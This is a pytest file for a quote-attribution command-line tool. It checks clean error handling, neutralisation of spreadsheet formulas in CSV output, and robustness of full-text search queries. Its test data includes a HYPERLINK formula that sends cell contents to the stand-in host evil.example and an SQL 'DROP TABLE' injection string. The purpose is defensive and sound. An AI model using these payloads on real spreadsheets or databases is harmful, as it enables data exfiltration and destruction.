"""What the tool writes cannot hurt its reader, and bad input never shows a traceback.

Every command on bad input: ``Error: ...`` on stderr, exit status 1, no traceback (the same
cases as the README's bad-input table, from ``tests/scenarios.py``). Full-text queries with
FTS syntax never raise; CSV cells that a spreadsheet would run as a formula are neutralised.
No model: the stored documents are built by hand.
"""

from __future__ import annotations

import contextlib
import csv
import io
import subprocess
import tempfile
from pathlib import Path

import pytest
import scenarios
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from provenance.cli import app
from provenance.errors import StoreError
from provenance.models import Attribution, Document, Hop, Span
from provenance.store import Store

runner = CliRunner()


@pytest.fixture(scope="module")
def cases(tmp_path_factory: pytest.TempPathFactory) -> dict[str, scenarios.BadInput]:
    found = scenarios.bad_inputs(tmp_path_factory.mktemp("bad"))
    return {f"{n:02d} {' '.join(c.args[:1])}: {c.label}": c for n, c in enumerate(found)}


def case_ids() -> list[str]:
    with_tmp = scenarios.bad_inputs(Path(tempfile.mkdtemp()))
    return [f"{n:02d} {' '.join(c.args[:1])}: {c.label}" for n, c in enumerate(with_tmp)]


@pytest.mark.parametrize("name", case_ids())
def test_every_command_on_bad_input_says_error_and_exits_1(
    cases: dict[str, scenarios.BadInput], name: str
) -> None:
    outcome = scenarios.run_bad_input(cases[name])
    assert outcome.exit_code == cases[name].exit_code, outcome
    assert outcome.message.startswith("Error: "), outcome
    assert not outcome.traceback, outcome


def test_the_bad_input_cases_cover_every_command(tmp_path: Path) -> None:
    covered = {c.args[0] for c in scenarios.bad_inputs(tmp_path)}
    assert scenarios.command_names() <= covered


def test_a_corrupt_database_fails_cleanly_in_a_real_process(tmp_path: Path) -> None:
    corrupt = tmp_path / "corrupt.db"
    corrupt.write_bytes(b"\x00garbage" * 512)
    proc = subprocess.run(
        scenarios.provenance("who-said", "--db", str(corrupt), "troops"),
        capture_output=True,
        text=True,
        env=scenarios.ENV,
        timeout=120,
        check=False,
    )
    assert proc.returncode == 1
    assert proc.stderr.startswith("Error: ") and "not a usable SQLite database" in proc.stderr
    assert "Traceback" not in proc.stderr


# --- the store's output ------------------------------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def hostile_document() -> Document:
    """An article whose quoted words, speaker and outlet start with formula characters."""
    text = f'"{HOSTILE}" +44 said @handle.\n-5 percent, -Dr. Who said.\n'
    content = Span(1, 1 + len(HOSTILE), HOSTILE)
    speaker_at = text.index("+44")
    cue_at = text.index("said")
    second = text.index("-5 percent")
    who_at = text.index("-Dr. Who")
    cue2 = text.index("said", who_at)
    return Document(
        "hostile",
        text,
        None,
        (
            Attribution(
                kind="direct",
                content=content,
                speaker=Span(speaker_at, speaker_at + 3, "+44"),
                cue=Span(cue_at, cue_at + 4, "said"),
                rule="quote-cue-after",
                confidence=0.85,
                source="@handle",
                source_type="person",
                source_evidence="person name",
                chain=(Hop("@handle", "origin"),),
            ),
            Attribution(
                kind="indirect",
                content=Span(second, second + 10, "-5 percent"),
                speaker=Span(who_at, who_at + 8, "-Dr. Who"),
                cue=Span(cue2, cue2 + 4, "said"),
                rule="postposed-cue",
                confidence=0.85,
                source="-Dr. Who",
                source_type="person",
                source_evidence="person name",
                chain=(Hop("-Dr. Who", "origin"),),
            ),
        ),
    )


@pytest.fixture
def hostile_db(tmp_path: Path) -> Path:
    db = tmp_path / "hostile.db"
    with Store(db) as store:
        store.ingest(hostile_document())
    return db


@pytest.mark.parametrize(
    "args",
    [
        ["export", "-f", "csv"],
        ["who-said", "HYPERLINK percent", "-f", "csv"],
        ["sources", "-f", "csv"],
    ],
)
def test_csv_never_starts_a_cell_with_a_formula_character(
    hostile_db: Path, args: list[str]
) -> None:
    result = runner.invoke(app, [*args, "--db", str(hostile_db)])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, result.stdout
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(c.startswith("'=HYPERLINK") for c in cells) or args[0] == "sources"
    assert any(c.startswith("'-") or c.startswith("'@") for c in cells)


FTS_QUERIES = [
    '"',
    '""',
    '"HYPERLINK',
    "percent*",
    "*",
    "(percent",
    "percent)",
    "()",
    "NEAR(percent evil)",
    "NEAR",
    "percent AND",
    "AND OR NOT",
    "-percent",
    "percent -evil",
    "content_text:percent",
    ":",
    "a:b:c",
    "^percent",
    "{percent}",
    "percent + evil",
    "'; DROP TABLE attributions; --",
    "\u201cpercent\u201d",
]


@pytest.mark.parametrize("query", FTS_QUERIES)
@pytest.mark.parametrize("command", ["who-said", "trace"])
def test_fts_syntax_in_a_query_never_raises(hostile_db: Path, command: str, query: str) -> None:
    # "--": a query starting with "-" would otherwise be read as an option (a usage error)
    result = runner.invoke(app, [command, "--db", str(hostile_db), "--", query])
    assert result.exit_code in (0, 1), result.output
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    if result.exit_code == 1:
        assert result.stderr.startswith("Error: ")


TRIED = {"queries": 0}  # bench/reliability_report.py prints it


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(max_size=40))
def test_any_query_string_is_safe(query: str) -> None:
    TRIED["queries"] += 1
    with Store(_shared_db()) as store:
        for ask in (store.who_said, store.trace):
            # "nothing to search for" / "no attribution" are answers, not bugs
            with contextlib.suppress(StoreError):
                ask(query)


_DB: list[Path] = []


def _shared_db() -> Path:
    if not _DB:
        db = Path(tempfile.mkdtemp()) / "search.db"
        with Store(db) as store:
            store.ingest(hostile_document())
        _DB.append(db)
    return _DB[0]
